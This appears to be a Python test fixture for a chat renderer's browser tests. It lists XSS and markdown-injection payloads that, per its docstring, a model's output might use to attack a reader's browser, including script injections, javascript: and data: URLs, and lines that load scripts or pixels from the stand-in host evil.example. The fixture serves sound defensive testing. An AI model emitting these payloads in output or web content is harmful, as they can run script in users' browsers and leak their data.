"""
Text a model (or someone steering one) might write to attack the reader's
browser. Every payload that would act calls alert(), or fetches from
EVIL, so the browser tests can tell when one does.
"""

EVIL = "evil.example"

PAYLOADS = [
    # Script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '"><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    # javascript: and other script URLs
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">click</a>',
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    # data: URLs
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click</math>',
    # HTML inside code, and code fences that try to close themselves
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    # Markdown link and image injections
    '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
    '![x" onerror="alert(1)](https://evil.example/a.png)',
    "![tracker](https://evil.example/pixel.png)",
    "![tracker](//evil.example/pixel.png)",
    "![tracker](http://evil.example/pixel.png)",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[![img](https://evil.example/nested.png)](https://a.example)",
    "<https://evil.example/autolink>",
    # CSS injection
    "<style>body{background:url(https://evil.example/css)}</style>",
    '<div style="background:url(https://evil.example/style)">styled</div>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<span style="position:fixed;inset:0;background:red">overlay</span>',
    # Other ways to reach out or take over
    "<iframe src=https://evil.example></iframe>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<form action=https://evil.example><button>go</button></form>",
    '<a href="https://a.example" ping="https://evil.example/ping">ping</a>',
    '<img srcset="https://evil.example/a.png 1x">',
    '<table background="https://evil.example/bg"><tr><td>x</td></tr></table>',
    "<object data=javascript:alert(1)></object>",
    "{{7*7}} ${alert(1)}",
]

# Long enough that a stream splits the tags across chunks (the fake server
# streams word by word).
STREAMED = "\n\n".join(PAYLOADS)
